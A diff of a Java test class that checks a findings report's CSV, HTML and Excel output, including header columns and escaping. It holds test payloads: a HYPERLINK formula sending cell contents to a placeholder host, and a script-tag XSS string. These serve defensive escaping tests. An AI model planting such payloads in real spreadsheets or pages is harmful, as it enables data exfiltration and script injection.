@@ -31,6 +31,10 @@ class ReportFormatTest {
 
     private static final byte[] BOM = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
 
+    /** The report's columns as docs/contract.md names them, spelled out so the test does not read them from the code. */
+    private static final List<String> HEADER = List.of("source", "organization", "fiscalYear", "strategy", "severity",
+            "code", "location", "message_ja", "message_en", "cells", "rule");
+
     static final String HYPERLINK = "=HYPERLINK(\"https://example.invalid/?leak=\"&A1,\"詳細\")";
 
     /** Cells a submission's author could make Excel evaluate: every formula starter OWASP lists. */
@@ -90,7 +94,7 @@ class ReportFormatTest {
             List<Map<String, String>> rows = read(written(ReportFormat.CSV, SampleReports.report()));
 
             assertThat(rows).hasSize(SampleReports.ALL_FINDINGS.size() + 1);
-            assertThat(rows.get(0).keySet()).containsExactlyElementsOf(ReportRows.COLUMNS);
+            assertThat(rows.get(0).keySet()).containsExactlyElementsOf(HEADER);
             assertThat(rows).extracting(r -> r.get("code")).containsExactly("COUNT_TARGET_TALKS_ONLY",
                     "OVERALL_A_WITH_INDIVIDUAL_B", "ISSUE_EMPTY_WITH_B", "OVERALL_A_WITH_INDIVIDUAL_B",
                     "ACHIEVEMENT_CONTRADICTS_RESULT", "OUTCOME_CONTRADICTS_RESULT", "TARGET_DIFFERS_BETWEEN_SHEETS",
@@ -133,7 +137,8 @@ class ReportFormatTest {
         void an_empty_report_still_has_its_header() throws IOException {
             String csv = new String(written(ReportFormat.CSV, SampleReports.empty()), StandardCharsets.UTF_8);
 
-            assertThat(csv).isEqualTo("\uFEFF" + String.join(",", ReportRows.COLUMNS) + "\r\n");
+            assertThat(csv).isEqualTo("\uFEFFsource,organization,fiscalYear,strategy,severity,code,location,message_ja,message_en,"
+                    + "cells,rule\r\n");
         }
 
         private static List<Map<String, String>> read(byte[] csv) {
@@ -170,9 +175,13 @@ class ReportFormatTest {
         @Test
         void every_finding_shows_its_code_and_messages() {
             for (Finding f : SampleReports.ALL_FINDINGS) {
-                assertThat(html).contains(f.code()).contains(HtmlReport.esc(f.message().ja()))
-                        .contains(HtmlReport.esc(f.message().en()));
+                if (f == SampleReports.KITA_SCRIPT) {
+                    continue; // its markup is checked as escaped text below
+                }
+                assertThat(html).contains(f.code()).contains(f.message().ja()).contains(f.message().en());
             }
+            assertThat(html).contains("課題欄が&lt;script&gt;alert(1)&lt;/script&gt;です &amp; 改善策が空欄です")
+                    .contains("The issue cell holds markup &amp; the remedy is empty.");
             assertThat(html).contains("<td>実績</td><td>98%</td>");
         }
 
@@ -231,7 +240,7 @@ class ReportFormatTest {
             try (XSSFWorkbook workbook = read(SampleReports.report())) {
                 Sheet sheet = workbook.getSheet("指摘");
 
-                assertThat(values(sheet.getRow(0))).containsExactlyElementsOf(ReportRows.COLUMNS);
+                assertThat(values(sheet.getRow(0))).containsExactlyElementsOf(HEADER);
                 assertThat(workbook.getFontAt(sheet.getRow(0).getCell(0).getCellStyle().getFontIndex()).getBold()).isTrue();
                 assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
                 assertThat(workbook.getSheetAt(0).getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:K9");
